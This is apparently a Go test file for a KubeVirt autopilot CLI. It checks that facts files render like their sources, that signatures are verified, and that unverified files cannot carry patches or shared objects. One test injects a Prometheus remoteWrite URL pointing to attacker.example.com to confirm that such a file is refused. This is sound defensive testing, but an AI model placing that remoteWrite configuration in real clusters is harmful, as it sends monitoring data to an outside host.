package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/yaml"

	"github.com/kubevirt/virt-platform-autopilot/assets"
	"github.com/kubevirt/virt-platform-autopilot/pkg/annotations"
	"github.com/kubevirt/virt-platform-autopilot/pkg/catalog"
	"github.com/kubevirt/virt-platform-autopilot/pkg/factsfile"
	"github.com/kubevirt/virt-platform-autopilot/pkg/preview"
)

// hcoVariant is an HCO with annotations an admin types, right and wrong,
// chosen by r: feature switches, the activation switch, exclusions,
// declared owners, a patch.
func hcoVariant(t *testing.T, r *rand.Rand) string {
	t.Helper()
	cat, err := catalog.Load(assets.FS, assets.CatalogPath)
	if err != nil {
		t.Fatal(err)
	}
	ann := map[string]string{}
	for _, f := range cat.Features {
		if f.Switch != "" && r.Intn(2) == 0 {
			ann["platform.kubevirt.io/"+f.Switch] = []string{"true", "false", "TRUE", "yes"}[r.Intn(4)]
		}
	}
	pick := func(k string, vs ...string) {
		if r.Intn(2) == 0 {
			ann[k] = vs[r.Intn(len(vs))]
		}
	}
	pick(annotations.Autopilot, "true", "false", "report-only", "paused", "maybe")
	pick(annotations.DisabledResources, "MachineConfig/90-worker-kubevirt-swap", "KubeletConfig/*", "Nothing/x")
	pick(annotations.YieldTo, "default", "none", "my-gitops", "none,default")
	pick(annotations.Patch, `[{"op":"add","path":"/spec/featureGates/x","value":true}]`, `[{"op":"replace","path":"/kind","value":"X"}]`)
	hco := map[string]any{"apiVersion": "hco.kubevirt.io/v1", "kind": "HyperConverged",
		"metadata": map[string]any{"name": "kubevirt-hyperconverged", "namespace": "openshift-cnv", "annotations": ann},
		"spec":     map[string]any{"liveMigrationConfig": map[string]any{"parallelMigrationsPerCluster": int64(r.Intn(10))}}}
	y, err := yaml.Marshal(hco)
	if err != nil {
		t.Fatal(err)
	}
	return string(y)
}

// render runs render and returns stdout, the stderr lines that are not
// notes, and the exit code.
func renderOut(args ...string) (string, string, int) {
	var out, errOut bytes.Buffer
	code := Render(args, &out, &errOut)
	var kept []string
	for _, l := range strings.Split(errOut.String(), "\n") {
		if !strings.HasPrefix(l, "note: ") {
			kept = append(kept, l)
		}
	}
	return out.String(), strings.Join(kept, "\n"), code
}

// A facts file renders exactly what its sources render, every output,
// for many HCOs: nothing an evaluation reads is lost or added on the way.
func TestFactsFileRendersAsItsSources(t *testing.T) {
	dir := t.TempDir()
	nodes := write(t, dir, "nodes.yaml", nodesYAML)
	crds := write(t, dir, "kd.yaml", descheduler417)
	// Signed: the variants carry patches, which only a verified file may.
	key := write(t, dir, "key", testKey)
	for seed := range int64(40) {
		r := rand.New(rand.NewSource(seed))
		hco := write(t, dir, "hco.yaml", hcoVariant(t, r))
		sources := []string{"--hco-file", hco, "--nodes-file", nodes}
		if r.Intn(2) == 0 {
			sources = append(sources, "--crds", crds)
		}
		facts, stderr, code := renderOut(append(sources, "-o", "facts", "--facts-key", key)...)
		if code != ExitOK && code != ExitInvalid {
			t.Fatalf("seed %d: facts: exit %d\n%s", seed, code, stderr)
		}
		factsFile := filepath.Join(dir, fmt.Sprintf("facts-%d.yaml", seed))
		if err := os.WriteFile(factsFile, []byte(facts), 0o600); err != nil {
			t.Fatal(err)
		}
		for _, output := range [][]string{{"-o", "yaml"}, {"-o", "json", "--show-excluded"}, {"-o", "status"}, {"-o", "features"}, {"-o", "yaml", "--activation", "true"}} {
			wantOut, wantErr, wantCode := renderOut(append(sources, output...)...)
			gotOut, gotErr, gotCode := renderOut(append([]string{"--facts-file", factsFile, "--facts-key", key}, output...)...)
			if gotOut != wantOut || gotErr != wantErr || gotCode != wantCode {
				t.Fatalf("seed %d %v: from the facts file (exit %d):\n%s\n%s\nfrom its sources (exit %d):\n%s\n%s", seed, output, gotCode, gotOut, gotErr, wantCode, wantOut, wantErr)
			}
		}
		// Written again from itself, a facts file is the same file.
		again, _, _ := renderOut("--facts-file", factsFile, "--facts-key", key, "-o", "facts")
		if again != facts {
			t.Fatalf("seed %d: a facts file read and written again changed", seed)
		}
	}
}

// The KRM function gives the objects render --facts-file gives, passes
// other items through, and reports notes and warnings as results.
func TestFnRendersAsFactsFile(t *testing.T) {
	dir := t.TempDir()
	nodes := write(t, dir, "nodes.yaml", nodesYAML)
	key := write(t, dir, "key", testKey)
	for seed := range int64(20) {
		r := rand.New(rand.NewSource(seed))
		hco := write(t, dir, "hco.yaml", hcoVariant(t, r))
		facts, stderr, _ := renderOut("--hco-file", hco, "--nodes-file", nodes, "-o", "facts", "--facts-key", key)
		factsFile := write(t, dir, "facts.yaml", facts)
		wantJSON, wantErr, wantCode := renderOut("--facts-file", factsFile, "--facts-key", key, "-o", "json")
		var entries []preview.Entry
		if err := json.Unmarshal([]byte(wantJSON), &entries); err != nil {
			t.Fatalf("seed %d: %v\n%s", seed, err, stderr)
		}

		items, err := preview.ReadObjects(factsFile)
		if err != nil {
			t.Fatal(err)
		}
		mine := map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "mine", "namespace": "default"}}
		rlItems := []any{mine}
		for _, u := range items {
			rlItems = append(rlItems, u.Object)
		}
		rl, _ := json.Marshal(map[string]any{"apiVersion": "config.kubernetes.io/v1", "kind": "ResourceList", "items": rlItems,
			"functionConfig": map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "fn"}}})
		out, bad, err := runFn(rl, key)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if (len(bad) > 0) != (wantCode == ExitInvalid) {
			t.Fatalf("seed %d: fn invalid %v, render exit %d", seed, bad, wantCode)
		}
		var res struct {
			Items   []map[string]any `json:"items"`
			Results []struct{ Message, Severity string }
		}
		if err := yaml.Unmarshal(out, &res); err != nil {
			t.Fatal(err)
		}
		want := []map[string]any{mine}
		for _, e := range entries {
			if e.Object != nil {
				want = append(want, e.Object)
			}
		}
		if !reflect.DeepEqual(asMaps(t, res.Items), asMaps(t, want)) {
			t.Fatalf("seed %d: fn items differ from render --facts-file", seed)
		}
		for _, l := range strings.Split(wantErr, "\n") {
			w, ok := strings.CutPrefix(l, "warning: ")
			if !ok {
				continue
			}
			// The function is told how to preview in its own terms.
			w = strings.Replace(w, "--activation=true", `the functionConfig's activation: "true"`, 1)
			found := false
			for _, r := range res.Results {
				found = found || (r.Severity == "warning" && r.Message == w)
			}
			if !found {
				t.Fatalf("seed %d: warning %q is not a result: %+v", seed, w, res.Results)
			}
		}
	}
}

func asMaps(t *testing.T, v any) any {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var out any
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

// The function's configuration is a closed vocabulary, and its input
// must be a facts file.
func TestFnRefuses(t *testing.T) {
	dir := t.TempDir()
	facts, _, _ := renderOut("--hco-file", write(t, dir, "hco.yaml", hcoYAML), "-o", "facts")
	items, err := preview.ReadObjects(write(t, dir, "facts.yaml", facts))
	if err != nil {
		t.Fatal(err)
	}
	var factsItems []any
	for _, u := range items {
		factsItems = append(factsItems, u.Object)
	}
	rl := func(items []any, fc map[string]any) []byte {
		b, _ := json.Marshal(map[string]any{"apiVersion": "config.kubernetes.io/v1", "kind": "ResourceList", "items": items, "functionConfig": fc})
		return b
	}
	cm := func(data map[string]any) map[string]any {
		return map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "fn"}, "data": data}
	}
	for want, in := range map[string][]byte{
		`data key "output" is not understood`: rl(factsItems, cm(map[string]any{"output": "json"})),
		`asset "nope": no such asset`:         rl(factsItems, cm(map[string]any{"asset": "swap-enable, nope"})),
		"want a v1 ConfigMap":                 rl(factsItems, map[string]any{"apiVersion": "fn.kpt.dev/v1", "kind": "Render", "metadata": map[string]any{"name": "x"}}),
		"no facts header":                     rl(nil, nil),
		"not a ResourceList":                  []byte(`{"apiVersion":"v1","kind":"List","items":[]}`),
	} {
		if _, _, err := runFn(in, ""); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v", want, err)
		}
	}
	// Chosen assets only, evaluated as if switched on.
	out, _, err := runFn(rl(factsItems, cm(map[string]any{"asset": "swap-enable", "activation": "false"})), "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(out), "paused") || strings.Contains(string(out), "kind: MachineConfig") {
		t.Errorf("activation false pauses and renders nothing for the asset:\n%s", out)
	}
}

// --facts-file holds every fact: another source beside it, or a
// partial facts file, is refused before anything is read.
func TestFactsFlagsRefused(t *testing.T) {
	dir := t.TempDir()
	hco := write(t, dir, "hco.yaml", hcoYAML)
	out, stderr, code := renderOut("--hco-file", hco, "-o", "facts")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	facts := write(t, dir, "facts.yaml", out)
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--facts-file", facts, "--hco-file", hco}, "both name the cluster"},
		{[]string{"--facts-file", facts, "--nodes-file", hco}, "both name the cluster"},
		{[]string{"--facts-file", facts, "--kubeconfig", hco}, "both name the cluster"},
		{[]string{"--facts-file", facts, "-o", "diff"}, errDiffNeedsCluster.Error()},
		{[]string{"--hco-file", hco, "-o", "facts", "--asset", "swap-enable"}, "do not apply"},
		{[]string{"--hco-file", hco, "-o", "facts", "--show-excluded"}, "do not apply"},
		{[]string{"--hco-file", hco, "-o", "facts", "--activation", "true"}, "do not apply"},
	} {
		if _, stderr, code := renderOut(c.args...); code != ExitError || !strings.Contains(stderr, c.want) {
			t.Errorf("%v: exit %d, want %d and %q\n%s", c.args, code, ExitError, c.want, stderr)
		}
	}
	if _, stderr, code := renderOut("--facts-file", facts, "-o", "status"); code != ExitOK {
		t.Errorf("the facts file itself renders: exit %d\n%s", code, stderr)
	}
}

// A facts file from a version whose assets read fewer objects leaves the
// others unknown, never absent, and says what to do.
func TestFactsFromAnotherCatalog(t *testing.T) {
	dir := t.TempDir()
	hco := write(t, dir, "hco.yaml", hcoYAML)
	objs := write(t, dir, "objs.yaml", "apiVersion: v1\nkind: List\nitems: []\n")
	facts, stderr, code := renderOut("--hco-file", hco, "--objects-file", objs, "-o", "facts")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	items, err := preview.ReadObjects(write(t, dir, "facts.yaml", facts))
	if err != nil {
		t.Fatal(err)
	}
	// The writer's catalog read nothing.
	header := items[0]
	if err := unstructured.SetNestedField(header.Object, "[]", "data", "reads"); err != nil {
		t.Fatal(err)
	}
	unstructured.RemoveNestedField(header.Object, "metadata", "annotations", factsfile.Marker)
	var b bytes.Buffer
	for _, u := range items {
		y, _ := yaml.Marshal(u.Object)
		b.WriteString("---\n")
		b.Write(y)
	}
	older := write(t, dir, "older.yaml", b.String())
	out, stderr, _ := renderOut("--facts-file", older, "-o", "status")
	if !strings.Contains(out+stderr, "is not in the facts file") || !strings.Contains(out+stderr, "write the facts again") {
		t.Fatalf("an unrecorded read is not reported as unknown:\n%s\n%s", out, stderr)
	}
}

// liveSource is a cluster in memory: an HCO file's facts and live objects.
type liveSource struct {
	files
	live preview.Static
}

func (s liveSource) Read(ctx context.Context, cat *catalog.Catalog) (Input, error) {
	in, err := s.files.Read(ctx, cat)
	in.Live = append(s.live, in.Facts.HCO)
	return in, err
}

// A paused autopilot reads no managed object, yet its facts hold them all:
// a render from them previews switching it on with every customization
// the objects carry.
func TestFactsOfPausedClusterPreviewSwitchingOn(t *testing.T) {
	dir := t.TempDir()
	paused := strings.Replace(hcoYAML, "  annotations:\n", "  annotations:\n    platform.kubevirt.io/autopilot: \"false\"\n", 1)
	paused = strings.Replace(paused, "    platform.kubevirt.io/disabled-resources: \"MachineConfig/90-worker-kubevirt-swap\"\n", "", 1)
	hco := write(t, dir, "hco.yaml", paused)
	mc := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "machineconfiguration.openshift.io/v1", "kind": "MachineConfig",
		"metadata": map[string]any{"name": "90-worker-kubevirt-swap", "annotations": map[string]any{annotations.Mode: "unmanaged"}}}}
	var facts, stderr bytes.Buffer
	src := liveSource{files: files(renderOptions{hcoFile: hco}), live: preview.Static{mc}}
	if err := runRender(renderOptions{hcoFile: hco, output: "facts"}, src, &facts, &stderr); err != nil {
		t.Fatalf("%v\n%s", err, stderr.String())
	}
	factsFile := write(t, dir, "facts.yaml", facts.String())
	out, errOut, code := renderOut("--facts-file", factsFile, "--activation", "true", "--asset", "swap-enable", "-o", "status")
	if code != ExitOK || !strings.Contains(out, "UNMANAGED") {
		t.Fatalf("switched on, the swap MachineConfig's own mode applies (exit %d):\n%s\n%s", code, out, errOut)
	}
}

// testKey is a facts key: 32 random bytes, base64 as openssl writes them.
const testKey = "q3Vb0lY9u0o8Jd2vXbq3l1M7m8Fz0kq2Yt1wP9sE4nA=\n"

// A facts file is data with an author: unverified, it may describe the
// cluster but not carry a patch or ignore-fields (whose content a render
// copies into its output); verified, it is refused when changed after it
// was signed or signed with another key.
func TestFactsFileAuthor(t *testing.T) {
	dir := t.TempDir()
	key := write(t, dir, "key", testKey)
	other := write(t, dir, "other", "another-key-of-at-least-thirty-two-bytes")
	short := write(t, dir, "short", "too-short")
	plain := write(t, dir, "hco.yaml", hcoYAML)

	unsigned, _, code := renderOut("--hco-file", plain, "-o", "facts")
	if code != ExitOK {
		t.Fatalf("facts: exit %d", code)
	}
	signed, _, code := renderOut("--hco-file", plain, "-o", "facts", "--facts-key", key)
	if code != ExitOK || !strings.Contains(signed, factsfile.Signature) {
		t.Fatalf("signed facts: exit %d, signature missing", code)
	}
	// The author adds a patch to the HCO as the file holds it, and
	// recomputes the object's mark (an unkeyed digest anyone can).
	customized := func(facts string) string {
		objs, err := preview.ReadObjects(write(t, dir, "in.yaml", facts))
		if err != nil {
			t.Fatal(err)
		}
		var items []unstructured.Unstructured
		for _, u := range objs {
			if u.GetKind() == "HyperConverged" {
				ann := u.GetAnnotations()
				ann["platform.kubevirt.io/patch"] = `[{"op":"add","path":"/metadata/labels/author","value":"me"}]`
				delete(ann, factsfile.Marker)
				u.SetAnnotations(ann)
			}
			items = append(items, *u)
		}
		list := &unstructured.UnstructuredList{Object: map[string]any{"apiVersion": "v1", "kind": "List"}, Items: items}
		b, err := yaml.Marshal(list.UnstructuredContent())
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}

	for _, c := range []struct {
		name, facts string
		args        []string
		refused     string // "" accepted
	}{
		{"unsigned, no customization", unsigned, nil, ""},
		{"signed, verified", signed, []string{"--facts-key", key}, ""},
		{"signed, read without the key", signed, nil, ""},
		{"unsigned with a patch", customized(unsigned), nil, "may not carry these customizations"},
		{"signed, then a patch added", customized(signed), []string{"--facts-key", key}, "does not match the key"},
		{"signed, then a patch added, read without the key", customized(signed), nil, "may not carry these customizations"},
		{"signed with another key", signed, []string{"--facts-key", other}, "does not match the key"},
		{"unsigned, read with a key", unsigned, []string{"--facts-key", key}, "not signed"},
		{"a short key", signed, []string{"--facts-key", short}, "at least 32"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := write(t, dir, "facts.yaml", c.facts)
			out, stderr, code := renderOut(append([]string{"--facts-file", f, "-o", "yaml"}, c.args...)...)
			switch {
			case c.refused == "" && code != ExitOK:
				t.Fatalf("refused (exit %d): %s", code, stderr)
			case c.refused != "" && (code != ExitError || !strings.Contains(stderr, c.refused) || out != ""):
				t.Fatalf("want refused with %q and nothing written, got exit %d, stdout %d bytes: %s", c.refused, code, len(out), stderr)
			}
		})
	}
}

// An unverified facts file does not author what is applied in two more
// ways: a shared object's live content, which the render merges into and
// copies out, is refused; operand images come from this environment, not
// from the file.
func TestUnverifiedFactsAuthorNothing(t *testing.T) {
	dir := t.TempDir()
	key := write(t, dir, "key", testKey)
	hco := write(t, dir, "hco.yaml", strings.Replace(hcoYAML, "  annotations:\n", "  annotations:\n    platform.kubevirt.io/enable-ksm-zero-only: \"true\"\n", 1))
	objs := write(t, dir, "objs.yaml", clusterObjects)
	t.Setenv("RELATED_IMAGE_KUBEVIRT_METRICS_EXPORTER", "quay.io/file-author/exporter:chosen")
	facts, stderr, code := renderOut("--hco-file", hco, "--objects-file", objs, "-o", "facts")
	if code != ExitOK {
		t.Fatalf("facts: exit %d %s", code, stderr)
	}
	// The file carries the image of the environment that wrote it.
	if !strings.Contains(facts, "file-author/exporter:chosen") {
		t.Fatalf("the facts file holds no operand image:\n%s", facts)
	}
	t.Setenv("RELATED_IMAGE_KUBEVIRT_METRICS_EXPORTER", "quay.io/pipeline/exporter:trusted")
	plain := write(t, dir, "plain.yaml", facts)
	var o, e bytes.Buffer
	if code := Render([]string{"--facts-file", plain, "-o", "status"}, &o, &e); code != ExitOK || !strings.Contains(e.String(), "operand images are taken from this environment") {
		t.Fatalf("unverified images: exit %d %s", code, e.String())
	}

	// The admin's cluster-monitoring-config, live: its content would be copied out.
	list := &unstructured.UnstructuredList{}
	if err := yaml.Unmarshal([]byte(facts), &list.Object); err != nil {
		t.Fatal(err)
	}
	items, _, _ := unstructured.NestedSlice(list.Object, "items")
	items = append(items, map[string]any{"apiVersion": "v1", "kind": "ConfigMap",
		"metadata": map[string]any{"namespace": "openshift-monitoring", "name": "cluster-monitoring-config"},
		"data":     map[string]any{"config.yaml": "prometheusK8s:\n  remoteWrite:\n  - url: https://attacker.example.com/\n"}})
	if err := unstructured.SetNestedSlice(list.Object, items, "items"); err != nil {
		t.Fatal(err)
	}
	withShared, err := yaml.Marshal(list.Object)
	if err != nil {
		t.Fatal(err)
	}
	unsigned := write(t, dir, "shared.yaml", string(withShared))
	out, stderr, code := renderOut("--facts-file", unsigned, "-o", "yaml")
	if code != ExitError || out != "" || !strings.Contains(stderr, "openshift-monitoring/cluster-monitoring-config") || !strings.Contains(stderr, "--facts-key") {
		t.Fatalf("a live shared object from an unverified file: exit %d, %d bytes out\n%s", code, len(out), stderr)
	}
	// Signed by the pipeline's key, the same file renders, and merges.
	signedList := &unstructured.UnstructuredList{}
	if err := signedList.UnmarshalJSON(mustJSON(t, list.Object)); err != nil {
		t.Fatal(err)
	}
	k, _ := os.ReadFile(key)
	if err := factsfile.Sign(signedList, []byte(strings.TrimSpace(string(k)))); err != nil {
		t.Fatal(err)
	}
	signedYAML, _ := yaml.Marshal(signedList.UnstructuredContent())
	signed := write(t, dir, "signed.yaml", string(signedYAML))
	out, stderr, code = renderOut("--facts-file", signed, "--facts-key", key, "-o", "yaml")
	if code != ExitOK || !strings.Contains(out, "attacker.example.com") {
		t.Fatalf("signed: exit %d\n%s", code, stderr)
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
